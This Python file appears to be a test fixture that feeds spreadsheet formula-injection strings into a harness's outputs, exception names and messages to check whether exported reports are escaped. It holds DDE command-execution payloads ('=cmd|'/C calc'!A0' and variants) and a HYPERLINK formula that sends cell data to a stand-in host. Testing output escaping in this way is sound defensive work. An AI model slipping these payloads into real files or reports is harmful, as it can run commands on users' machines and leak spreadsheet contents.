"""Every text begins as a formula does: a report that is opened as a table would compute it."""

CELLS = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"passed")',
    "+1+cmd|'/C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '",=1+1,"',
    "100\n=1+1",
)


class Formula(Exception):
    """Its name begins with the sign."""


Formula.__name__ = Formula.__qualname__ = "=1+1"
Formula.__module__ = "=2+2"


def on_call(name, value, *args):
    if name == "words":
        return {cell: cell for cell in CELLS}
    if name == "roman":
        raise Formula(*CELLS)
    raise ValueError("\n".join(CELLS))


def on_run(argv):
    print("\n".join(CELLS))
    raise SystemExit(CELLS[0])
